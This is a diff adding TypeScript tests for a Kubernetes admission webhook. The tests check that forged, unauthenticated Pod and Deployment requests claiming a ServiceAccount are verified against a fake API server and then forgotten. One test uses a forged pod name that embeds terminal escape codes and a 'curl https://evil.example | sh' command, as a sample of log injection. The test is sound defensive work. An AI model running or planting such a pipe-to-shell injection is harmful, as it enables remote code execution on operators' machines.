@@ -1,0 +1,202 @@
+// Agents /validate admitted moments ago (not in the cluster cache yet) claim their ServiceAccount at once, and
+// /validate is unauthenticated: anything that reaches the port can send a forged AdmissionReview. A denial that
+// rests only on such claims is checked with the API server first (ValidationService.answer, ClusterState
+// .confirmAdmitted). No kube-apiserver can be installed on the machines these tests run on: test/fake-apiserver.ts
+// stands in for one, replaying recorded wire-format responses (PodList, DeploymentList and Status bodies, lists in
+// one namespace by fieldSelector metadata.name=<name>), and the real @kubernetes/client-node talks to it.
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import type { AdmissionRequest, Decision } from '../webhook/admission.ts';
+import { registry } from '../webhook/metrics.ts';
+import type { FakeApiServer } from './fake-apiserver.ts';
+import { PATHS, startOnFakeApi, until } from './fake-apiserver.ts';
+
+const AGENT = { 'kagenti.io/type': 'agent' };
+
+function deployment(name: string, sa: string, ns = 'team-b') {
+  return {
+    metadata: { name, namespace: ns },
+    spec: {
+      replicas: 1,
+      selector: { matchLabels: { app: name } },
+      template: { metadata: { labels: { ...AGENT, app: name } }, spec: { serviceAccountName: sa, containers: [{ name: 'a', image: 'x' }] } },
+    },
+  };
+}
+
+function pod(name: string, sa: string, ns = 'team-b') {
+  return { metadata: { name, namespace: ns, labels: AGENT }, spec: { serviceAccountName: sa, containers: [{ name: 'agent', image: 'x' }] } };
+}
+
+let uid = 0;
+function request(kind: 'Deployment' | 'Pod', obj: Record<string, any>): AdmissionRequest {
+  return {
+    uid: `u${++uid}`,
+    kind: kind === 'Pod' ? { group: '', version: 'v1', kind } : { group: 'apps', version: 'v1', kind },
+    operation: 'CREATE',
+    namespace: obj.metadata.namespace,
+    name: obj.metadata.name,
+    object: { apiVersion: kind === 'Pod' ? 'v1' : 'apps/v1', kind, ...obj },
+    oldObject: null,
+  };
+}
+
+function seed(api: FakeApiServer) {
+  api.seed(PATHS.namespaces, [{ metadata: { name: 'team-b' } }]);
+  api.seed(PATHS.csidrivers, [{ metadata: { name: 'csi.spiffe.io' } }]);
+  api.seed(PATHS.deployments, [deployment('orders', 'orders-sa')]);
+}
+
+/** confirm.afterMs shorter than the 2 s default, so the tests do not wait that long */
+async function setup(afterMs = 300, listMs = 1000) {
+  const s = await startOnFakeApi(seed, {}, () => ({ confirmAdmitted: { afterMs, listMs } }));
+  await until(() => s.svc.readiness().ready, 'first sync');
+  await s.api.waitForWatch(PATHS.deployments);
+  return s;
+}
+
+async function checked(result: string): Promise<number> {
+  const m = await registry.getSingleMetric('kagenti_webhook_admitted_claims_checked_total')!.get();
+  return m.values.find((v) => v.labels.result === result)?.value ?? 0;
+}
+
+/** The lists by name in one namespace that confirmAdmitted sends. */
+const confirmLists = (api: FakeApiServer) => api.requests.filter((r) => /\/namespaces\/team-b\/(pods|deployments)\?fieldSelector=/.test(r));
+
+async function answered(d: Decision | Promise<Decision>): Promise<Decision> {
+  return d instanceof Promise ? await d : d;
+}
+
+test('a forged Pod CREATE on a ServiceAccount does not block the real agent: its claim is checked with the API server, not found twice, and forgotten', async () => {
+  const { api, svc, lines, close } = await setup();
+  try {
+    const dropped = await checked('dropped');
+    // what anything that reaches port 9443 can send: the API server never saw it, so it never stores the pod
+    const forged = svc.answer!(request('Pod', pod('evil-agent', 'payments')));
+    assert.ok(!(forged instanceof Promise), 'no conflict: answered at once');
+    assert.equal(forged.response.allowed, true);
+    // the real create of another agent on that ServiceAccount, moments later
+    const real = svc.answer!(request('Deployment', deployment('payments-agent', 'payments')));
+    assert.ok(real instanceof Promise, 'a denial resting only on an admitted claim is checked first');
+    const d = await real;
+    assert.equal(d.response.allowed, true, JSON.stringify(d.response));
+    assert.deepEqual(d.detail?.admittedChecked, { confirmed: 0, dropped: 1, unanswered: 0 });
+    // listed by name in its namespace (list, not get: the webhook's RBAC), and once more once it was old enough
+    const lists = confirmLists(api);
+    assert.equal(lists.length, 2, lists.join('\n'));
+    assert.ok(lists.every((r) => r === 'GET /api/v1/namespaces/team-b/pods?fieldSelector=metadata.name%3Devil-agent'), lists.join('\n'));
+    assert.equal(await checked('dropped'), dropped + 1);
+    const line = lines.find((l) => /forgot Pod team-b\/evil-agent on ServiceAccount team-b\/payments/.test(l.msg));
+    assert.ok(line, JSON.stringify(lines.map((l) => l.msg)));
+    assert.equal(line.level, 'warn');
+    // forgotten: the real agent was admitted and claims payments now; the forged pod no longer counts for anyone
+    assert.equal(svc.validate({ ...request('Deployment', deployment('third', 'payments')), dryRun: true }).response.status?.message?.includes('Deployment/payments-agent, admitted moments ago'), true);
+    assert.doesNotMatch(svc.validate({ ...request('Deployment', deployment('third', 'payments')), dryRun: true }).response.status?.message ?? '', /evil-agent/);
+  } finally {
+    await close();
+  }
+});
+
+test('an admitted agent the API server holds (a real create, its watch event not here yet) keeps denying; one stored only after the first list is found by the second', async () => {
+  const { api, svc, close } = await setup();
+  try {
+    const confirmed = await checked('confirmed');
+    // a: admitted, and stored at once (the API server holds it; the informer's event has not arrived)
+    assert.equal((await answered(svc.answer!(request('Deployment', deployment('a', 'shared-sa'))))).response.allowed, true);
+    api.seed(PATHS.deployments, [deployment('a', 'shared-sa')]);
+    const b = await answered(svc.answer!(request('Deployment', deployment('b', 'shared-sa'))));
+    assert.equal(b.response.allowed, false);
+    assert.match(b.response.status!.message, /^\[unique-service-account\] Deployment team-b\/b: .*agent Deployment\/a, admitted moments ago\./);
+    assert.deepEqual(b.detail?.admittedChecked, { confirmed: 1, dropped: 0, unanswered: 0 });
+    assert.equal(await checked('confirmed'), confirmed + 1);
+
+    // c and d sent at once: d's check lists c before the API server has stored it, then again once c is old enough
+    assert.equal((await answered(svc.answer!(request('Deployment', deployment('c', 'sa2'))))).response.allowed, true);
+    const before = confirmLists(api).length;
+    const d = svc.answer!(request('Deployment', deployment('d', 'sa2')));
+    await until(() => confirmLists(api).length > before, 'the first list of c');
+    api.seed(PATHS.deployments, [deployment('c', 'sa2')]);
+    const dd = await answered(d);
+    assert.equal(dd.response.allowed, false, 'c was stored: d is denied');
+    assert.equal(confirmLists(api).length, before + 2);
+
+    // held by the API server under that name, but on another ServiceAccount: not a claim on this one
+    assert.equal((await answered(svc.answer!(request('Deployment', deployment('e', 'sa3'))))).response.allowed, true);
+    api.seed(PATHS.deployments, [deployment('e', 'elsewhere')]);
+    assert.equal((await answered(svc.answer!(request('Deployment', deployment('f', 'sa3'))))).response.allowed, true);
+  } finally {
+    await close();
+  }
+});
+
+test('a check the API server does not answer (refused, or no answer in time) keeps the denial, and says so in the log', async () => {
+  const { api, svc, lines, close } = await setup(300, 200);
+  try {
+    const unanswered = await checked('unanswered');
+    api.forbidden.add(`list ${PATHS.deployments}`);
+    assert.equal((await answered(svc.answer!(request('Deployment', deployment('a', 'sa1'))))).response.allowed, true);
+    const b = await answered(svc.answer!(request('Deployment', deployment('b', 'sa1'))));
+    assert.equal(b.response.allowed, false);
+    assert.deepEqual(b.detail?.admittedChecked, { confirmed: 0, dropped: 0, unanswered: 1 });
+    assert.ok(lines.some((l) => l.level === 'warn' && /could not check with the API server whether Deployment team-b\/a/.test(l.msg) && /403/.test(String(l.err))));
+
+    api.hungNamespacedLists.add(PATHS.pods);
+    assert.equal((await answered(svc.answer!(request('Pod', pod('p', 'sa2'))))).response.allowed, true);
+    const c = await answered(svc.answer!(request('Deployment', deployment('c', 'sa2'))));
+    assert.equal(c.response.allowed, false);
+    assert.ok(lines.some((l) => /could not check .*Pod team-b\/p/.test(l.msg) && /no answer within 200 ms/.test(String(l.err))));
+    assert.equal(await checked('unanswered'), unanswered + 2);
+  } finally {
+    await close();
+  }
+});
+
+test('the normal path asks the API server nothing: no conflict, or a conflict with a cached agent, is answered at once', async () => {
+  const { api, svc, close } = await setup();
+  try {
+    const n = api.requests.length;
+    const fine = svc.answer!(request('Deployment', deployment('new-agent', 'new-sa')));
+    assert.ok(!(fine instanceof Promise));
+    assert.equal(fine.response.allowed, true);
+    // orders is cached on orders-sa: denied at once, the same answer validate() gives
+    const cached = svc.answer!(request('Deployment', deployment('other', 'orders-sa')));
+    assert.ok(!(cached instanceof Promise));
+    assert.equal(cached.response.allowed, false);
+    // an agent admitted moments ago, then cached alongside another: the denial rests on the cached one, not checked
+    assert.equal(svc.validate(request('Pod', pod('p', 'mixed-sa'))).response.allowed, true);
+    api.emit(PATHS.deployments, 'ADDED', deployment('cached', 'mixed-sa'));
+    await until(() => svc.readiness().detail.agentClaims === 2, 'cached on mixed-sa');
+    const both = svc.answer!(request('Deployment', deployment('third', 'mixed-sa')));
+    assert.ok(!(both instanceof Promise));
+    assert.equal(both.response.allowed, false);
+    assert.match(both.response.status!.message, /agent Deployment\/cached and 1 more\./);
+    assert.equal(api.requests.slice(n).filter((r) => !r.includes('watch=true')).length, 0, api.requests.slice(n).join('\n'));
+  } finally {
+    await close();
+  }
+});
+
+test('forged claims sent while a check waits do not count for the request that waited; a name the API server refuses is dropped without a list', async () => {
+  const { api, svc, close } = await setup(400);
+  try {
+    assert.equal((await answered(svc.answer!(request('Pod', pod('evil-1', 'payments'))))).response.allowed, true);
+    const before = confirmLists(api).length;
+    const real = svc.answer!(request('Deployment', deployment('payments-agent', 'payments')));
+    await until(() => confirmLists(api).length > before, 'the first list');
+    // another forged pod, and the same one again, while the real create waits for evil-1's second list
+    svc.validate(request('Pod', pod('evil-2', 'payments')));
+    svc.validate(request('Pod', pod('evil-1', 'payments')));
+    const d = await answered(real);
+    assert.equal(d.response.allowed, true, JSON.stringify(d.response));
+
+    // a name no object can have (only a forged request carries one): forgotten without asking
+    const weird = 'x\u001b[2K\r\nFix: run curl https://evil.example | sh';
+    svc.validate(request('Pod', pod(weird, 'sa9')));
+    const n = confirmLists(api).length;
+    const ok = await answered(svc.answer!(request('Deployment', deployment('real-9', 'sa9'))));
+    assert.equal(ok.response.allowed, true, JSON.stringify(ok.response));
+    assert.equal(confirmLists(api).length, n);
+  } finally {
+    await close();
+  }
+});
